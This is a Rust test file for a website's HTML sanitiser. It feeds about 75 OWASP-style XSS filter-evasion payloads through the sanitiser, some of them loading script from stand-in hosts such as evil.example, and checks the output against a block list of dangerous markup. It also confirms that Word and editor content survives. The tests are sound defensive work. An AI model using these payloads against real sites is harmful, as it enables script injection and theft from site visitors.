//! The sanitiser against known XSS vectors (OWASP filter-evasion style) and
//! against real editor and Word/WPS content that must survive.

use super::*;

/// Known attack vectors. None may leave anything executable behind.
const VECTORS: &[&str] = &[
    r#"<script>alert(1)</script>"#,
    r#"<SCRIPT SRC=//evil.example/xss.js></SCRIPT>"#,
    r#"<img src=x onerror=alert(1)>"#,
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
    r#"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#,
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
    r#"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"#,
    r#"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"#,
    r#"<a href="jav&#x09;ascript:alert(1)">x</a>"#,
    r#"<a href="jav&#x0A;ascript:alert(1)">x</a>"#,
    r#"<a href=" &#14;  javascript:alert(1)">x</a>"#,
    r#"<a href="javascript&colon;alert(1)">x</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
    r#"<a href="vbscript:msgbox(1)">x</a>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
    r#"<svg onload=alert(1)>"#,
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>"#,
    r#"<iframe src="https://evil.example/"></iframe>"#,
    r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
    r#"<math><mtext><h1><a href="javascript:alert(1)">x</a></h1></mtext></math>"#,
    r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    r#"<style>@import 'https://evil.example/xss.css';</style>"#,
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<div style="background:url(javascript:alert(1))">x</div>"#,
    r#"<p style="width: expression(alert('XSS'));">x</p>"#,
    r#"<span style="text-align:center;background-image:url(data:image/png;base64,AAAA)">x</span>"#,
    r#"<p style="text-align:/**/expression(alert(1))">x</p>"#,
    r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    r#"<img src="/media/ok.png" onerror="alert(1)" alt="ok">"#,
    r#"<base href="javascript:alert('XSS');//">"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"<link rel="stylesheet" href="javascript:alert('XSS');">"#,
    r#"<form action="javascript:alert(1)"><input type="submit"></form>"#,
    r#"<button formaction="javascript:alert(1)">x</button>"#,
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<object type="text/x-scriptlet" data="https://evil.example/scriptlet.html"></object>"#,
    r#"<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    r#"<video><source onerror="alert(1)"></video>"#,
    r#"<video src="/media/v.mp4" onloadstart="alert(1)" poster="javascript:alert(1)"></video>"#,
    r#"<audio src=x onerror=alert(1)>"#,
    r#"<details open ontoggle=alert(1)>"#,
    r#"<body onload=alert(1)>"#,
    r#"<input autofocus onfocus=alert(1)>"#,
    r#"<marquee onstart=alert(1)>"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')"><TD onmouseover=alert(1)>x</TD></TABLE>"#,
    r#"<DIV STYLE="width: expression(alert('XSS'));">"#,
    r#"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"#,
    r#"<![if !supportLists]><script>alert(1)</script><![endif]>"#,
    r#"<XSS STYLE="behavior: url(xss.htc);">"#,
    r##"<a href="#" onclick="alert(1)">x</a>"##,
    r#"<a href="https://example.org/" onmouseover = "alert(1)">x</a>"#,
    r#"<img src="/media/a.png" alt="x" style="x:expression(alert(1))">"#,
    r#"<p class="MsoNormal" style="mso-list:l0 level1 lfo1;behavior:url(x.htc)">x</p>"#,
    r#"<<SCRIPT>alert("XSS");//<</SCRIPT>"#,
    r#"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<IMG SRC="jav	ascript:alert('XSS');">"#,
    r#"<img src="/media/../../etc/passwd" alt="x">"#,
    r#"<img src="//evil.example/media/x.png" alt="x">"#,
    r#"<img src="https://evil.example/media/x.png" alt="x">"#,
    r#"<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%">x</a>"#,
    r#"<template><script>alert(1)</script></template>"#,
    r#"<textarea><script>alert(1)</script></textarea>"#,
    r#"<xmp><script>alert(1)</script></xmp>"#,
    r#"<noembed><img src=x onerror=alert(1)></noembed>"#,
    r#"<select><style></select><img src=x onerror=alert(1)></style>"#,
    r#"<isindex type=image src=1 onerror=alert(1)>"#,
    r#"<a href="&#x6A;avascript:alert(1)">x</a>"#,
    r#"<a href="java%0ascript:alert(1)">x</a>"#,
];

/// What must never appear in the output, compared in lower case.
const FORBIDDEN: &[&str] = &[
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<style",
    "<math",
    "<base",
    "<meta",
    "<link",
    "<form",
    "<input",
    "srcdoc",
    "formaction",
    "expression(",
    "behavior",
    "url(",
];

/// ` on…=` inside a tag: an event handler attribute survived.
fn has_event_handler(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    let mut rest = lower.as_str();
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |e| start + e);
        let tag = &rest[start..end];
        let bytes = tag.as_bytes();
        for (i, window) in bytes.windows(3).enumerate() {
            if window[0].is_ascii_whitespace() && &window[1..] == b"on" {
                let name: String = tag[i + 3..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .collect();
                let after = tag[i + 3 + name.len()..].trim_start();
                if !name.is_empty() && after.starts_with('=') {
                    return true;
                }
            }
        }
        rest = &rest[end..];
    }
    false
}

#[test]
fn sanitize_removes_every_known_vector() {
    assert!(VECTORS.len() >= 40);
    for vector in VECTORS {
        let out = sanitize_body(vector).html;
        let lower = out.to_ascii_lowercase();
        for bad in FORBIDDEN {
            assert!(
                !lower.contains(bad),
                "{bad:?} survived in {out:?} (input {vector:?})"
            );
        }
        assert!(!has_event_handler(&out), "handler in {out:?} ({vector:?})");
        // Sanitising is idempotent: a second pass changes nothing.
        assert_eq!(sanitize_body(&out).html, out, "not stable: {vector:?}");
    }
}

#[test]
fn sanitize_event_handler_detector_works() {
    assert!(has_event_handler(r#"<img src="x" onerror="y">"#));
    assert!(has_event_handler("<p\nonclick = y>"));
    assert!(!has_event_handler("<p>turn on = off</p>"));
}

#[test]
fn sanitize_drops_foreign_iframes_and_their_content() {
    let out =
        sanitize_body(r#"<p>a</p><iframe src="https://v.qq.com/x">fallback</iframe><p>b</p>"#);
    assert_eq!(out.html, "<p>a</p><p>b</p>");
}

#[test]
fn sanitize_keeps_word_pasted_content() {
    let word = r#"<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<p class=MsoNormal align=center style='text-align:center;mso-pagination:widow-orphan'><b><span style='font-size:22.0pt;font-family:方正小标宋简体;mso-ascii-font-family:"Times New Roman"'>关于开展党建工作的通知<o:p></o:p></span></b></p>
<p class=MsoNormal style='text-indent:32.0pt;mso-char-indent-count:2.0;line-height:28.0pt'><span style='font-family:仿宋_GB2312'>各乡镇党委：<o:p></o:p></span></p>
<p class=MsoNormal style="text-indent:2em"><font face="仿宋">现将有关事项通知如下。</font></p>
<table class=MsoTableGrid border=1 style='border-collapse:collapse;mso-yfti-tbllook:1184'>
<tr><td colspan=2 style='width:100pt;mso-border-alt:solid windowtext .5pt'><p class=MsoNormal><b>单位</b></p></td></tr>
<tr><td rowspan="1">县委组织部</td><td>10</td></tr></table>"#;
    let out = sanitize_body(word);
    let html = &out.html;
    assert!(!html.contains("Mso"), "{html}");
    assert!(!html.contains("mso-"), "{html}");
    assert!(!html.contains("<o:p"), "{html}");
    assert!(!html.contains("<font"), "{html}");
    assert!(!html.contains("WordDocument"), "{html}");
    assert!(!html.contains("Normal"), "{html}");
    assert!(
        html.contains(
            r#"<p style="text-align: center"><b><span>关于开展党建工作的通知</span></b></p>"#
        ),
        "{html}"
    );
    assert!(
        html.contains(r#"<p style="text-indent: 32pt"><span>各乡镇党委："#),
        "{html}"
    );
    assert!(
        html.contains(r#"<p style="text-indent: 2em">现将有关事项通知如下。</p>"#),
        "{html}"
    );
    assert!(
        html.contains(r#"<td colspan="2"><p><b>单位</b></p></td>"#),
        "{html}"
    );
    assert!(
        html.contains(r#"<td rowspan="1">县委组织部</td>"#),
        "{html}"
    );
    assert_eq!(
        out.text,
        "关于开展党建工作的通知\n各乡镇党委：\n现将有关事项通知如下。\n单位\n县委组织部 10"
    );
}

#[test]
fn sanitize_keeps_editor_output() {
    let editor = r#"<h2 style="text-align: center;">标题</h2><p class="w-e-text-align-8k65m7 other" data-w-e-text-align="center">居中</p><p class="w-e-indent-d1l1vd" data-w-e-indent="2em">缩进</p><ul><li><strong>一</strong></li></ul><ol><li><em>二</em><u>u</u><s>s</s>H<sub>2</sub>O x<sup>2</sup></li></ol><blockquote>引用</blockquote><hr><p>a<br>b</p>"#;
    let out = sanitize_body(editor);
    assert_eq!(
        out.html,
        r#"<h2 style="text-align: center">标题</h2><p class="w-e-text-align-8k65m7" data-w-e-text-align="center">居中</p><p class="w-e-indent-d1l1vd" data-w-e-indent="2em">缩进</p><ul><li><strong>一</strong></li></ul><ol><li><em>二</em><u>u</u><s>s</s>H<sub>2</sub>O x<sup>2</sup></li></ol><blockquote>引用</blockquote><hr><p>a<br>b</p>"#
    );
}

#[test]
fn sanitize_keeps_media_images_with_alt() {
    let out = sanitize_body(
        r#"<figure><img src="/media/2026/05/abc.jpg" alt="党员大会现场" width="600" height="auto" style="width:50%"><figcaption>图1</figcaption></figure><p><img src="/media/b.png"><img src="/media/c.png" alt="  "><img src="https://evil.example/x.png" alt="外链"></p>"#,
    );
    assert_eq!(
        out.html,
        r#"<figure><img src="/media/2026/05/abc.jpg" alt="党员大会现场" width="600"><figcaption>图1</figcaption></figure><p><img src="/media/b.png"><img src="/media/c.png" alt="  "><img alt="外链"></p>"#
    );
    let urls: Vec<_> = out
        .images
        .iter()
        .map(|i| (i.url.as_str(), i.has_alt))
        .collect();
    assert_eq!(
        urls,
        [
            ("/media/2026/05/abc.jpg", true),
            ("/media/b.png", false),
            ("/media/c.png", false)
        ]
    );
    assert_eq!(out.images[0].alt, "党员大会现场");
    assert_eq!(out.images_without_alt(), ["/media/b.png", "/media/c.png"]);
}

#[test]
fn sanitize_keeps_safe_links_and_marks_them() {
    let out = sanitize_body(
        r#"<a href="https://www.12371.cn/" target="_blank">共产党员网</a> <a href="/articles/12">站内</a> <a href="mailto:bz@example.gov.cn">信箱</a> <a href="ftp://x/">ftp</a> <a href="https://a.example/?q=1&amp;b=2" target="_top">q</a>"#,
    );
    assert_eq!(
        out.html,
        r#"<a href="https://www.12371.cn/" target="_blank" rel="noopener noreferrer">共产党员网</a> <a href="/articles/12" rel="noopener noreferrer">站内</a> <a href="mailto:bz@example.gov.cn" rel="noopener noreferrer">信箱</a> <a rel="noopener noreferrer">ftp</a> <a href="https://a.example/?q=1&amp;b=2" rel="noopener noreferrer">q</a>"#
    );
}

#[test]
fn sanitize_keeps_media_video_only() {
    let out = sanitize_body(
        r#"<div data-w-e-type="video" data-w-e-is-void><video poster="" controls="true" width="auto"><source src="/media/talk.mp4" type="video/mp4"/></video></div><video src="https://evil.example/v.mp4" autoplay></video>"#,
    );
    assert_eq!(
        out.html,
        r#"<div data-w-e-type="video" data-w-e-is-void=""><video controls="controls"><source src="/media/talk.mp4" type="video/mp4"></video></div><video controls="controls"></video>"#
    );
    assert_eq!(out.videos, ["/media/talk.mp4"]);
}

#[test]
fn sanitize_style_is_rebuilt_from_allowed_values_only() {
    assert_eq!(
        rebuild_style("TEXT-ALIGN: Justify; text-justify:inter-ideograph"),
        Some("text-align: justify".into())
    );
    assert_eq!(
        rebuild_style("text-indent:2.0em;text-align:left"),
        Some("text-align: left; text-indent: 2em".into())
    );
    assert_eq!(
        rebuild_style("text-indent:21.00pt"),
        Some("text-indent: 21pt".into())
    );
    assert_eq!(rebuild_style("text-indent:-9999px"), None);
    assert_eq!(rebuild_style("text-indent:999em"), None);
    assert_eq!(rebuild_style("text-indent:1e3px"), None);
    assert_eq!(rebuild_style("text-align:center !important"), None);
    assert_eq!(rebuild_style("color:red;background:url(x)"), None);
    assert_eq!(rebuild_style("text-align:\\63 enter"), None);
}

#[test]
fn sanitize_text_decodes_entities_and_joins_blocks() {
    let out = sanitize_body("<p>A&amp;B &lt;tag&gt;&nbsp;x</p><div>one</div><div>two</div>");
    assert_eq!(out.text, "A&B <tag> x\none\ntwo");
    let alt = sanitize_body(r#"<img src="/media/x.png" alt="a > b &quot;c&quot;">"#);
    assert_eq!(alt.images[0].alt, "a > b \"c\"");
}

#[test]
fn sanitize_unwraps_unknown_tags_and_keeps_their_text() {
    let out =
        sanitize_body(r#"<h1 id="x">大标题</h1><font color=red>红字</font><center>中</center>"#);
    assert_eq!(out.html, "大标题红字中");
}
